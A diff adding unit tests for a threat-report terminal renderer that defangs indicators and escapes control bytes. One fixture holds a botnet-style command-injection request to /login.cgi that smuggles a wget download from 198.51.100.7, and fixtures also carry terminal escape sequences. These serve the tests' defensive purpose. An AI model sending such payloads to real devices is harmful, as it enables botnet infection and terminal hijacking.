@@ -1,6 +1,6 @@
 import { describe, expect, it } from "vitest";
 import type { AnalysisReport } from "../schema/report.js";
-import { renderReport, sparkline } from "./terminal.js";
+import { renderReport, safeText, sparkline } from "./terminal.js";
 
 function report(): AnalysisReport {
   return {
@@ -98,8 +98,65 @@ describe("renderReport", () => {
     );
   });
 
+  it("shows campaigns and IoCs defanged, with attacker bytes escaped, within 100 columns", () => {
+    const r = report();
+    r.campaigns = [
+      {
+        id: "bb4613d85e6e0e08",
+        template: "bb4613d85e6e0e08",
+        sample: "GET /login.cgi?cli=aa%20aa%27;wget%20http://198.51.100.7/r\x1b]0;owned\x07",
+        ports: [80, 8080],
+        first: "2018-06-15T00:00:00.000Z",
+        last: "2018-06-16T00:00:00.000Z",
+        sessions: 4708,
+        sources: 754,
+        cve: [],
+        family: "satori",
+        iocs: ["http://198.51.100.7/r"],
+        draftRule: `alert http any any -> $HOME_NET [80,8080] (msg:"PORTENT DRAFT"; ${'content:"x"; '.repeat(30)}sid:9900001; rev:1;)`,
+        kind: "http",
+        templateText: "GET /login.cgi [cli]",
+        sids: [],
+        alertedSessions: 0,
+        fingerprints: { mirai: 0.5, unknown: 0.5 },
+        familyConfidence: 0.79,
+        familyReasons: [],
+        sourcesCapped: false,
+      },
+    ];
+    r.iocs = [
+      {
+        type: "url",
+        value: "http://198.51.100.7/r",
+        first: "2018-06-15T00:00:00.000Z",
+        last: "2018-06-16T00:00:00.000Z",
+        count: 4708,
+        campaigns: ["bb4613d85e6e0e08"],
+      },
+    ];
+    const text = renderReport(r, { color: false, top: 15, sparkWidth: 36 });
+    for (const line of text.split("\n")) expect([...line].length).toBeLessThanOrEqual(100);
+    expect(text).toContain("CAMPAIGNS");
+    expect(text).toContain("family satori (0.79)");
+    expect(text).toContain("SYNs: mirai 50%, unknown 50%");
+    expect(text).toContain("hxxp://198.51.100[.]7/r");
+    expect(text).not.toContain("http://198.51.100.7/r");
+    expect(text).not.toContain("\x1b]0;");
+    expect(text).toContain("\\x1b]0;owned\\x07");
+    expect(text).toContain("no rule matched; draft rule:");
+    const raw = renderReport(r, { color: false, top: 15, sparkWidth: 36, defang: false });
+    expect(raw).toContain("http://198.51.100.7/r");
+  });
+
   it("uses colour only when asked", () => {
     expect(renderReport(report(), { color: true, top: 15, sparkWidth: 36 })).toContain("\x1b[1m");
+  });
+});
+
+describe("safeText", () => {
+  it("escapes controls, DEL, C1 and bidirectional overrides, and leaves the rest", () => {
+    expect(safeText("a\x1b[2Jb\x7f\x9b\u202ec")).toBe("a\\x1b[2Jb\\x7f\\x9b\\u202ec");
+    expect(safeText("plain text: ü")).toBe("plain text: ü");
   });
 });
 
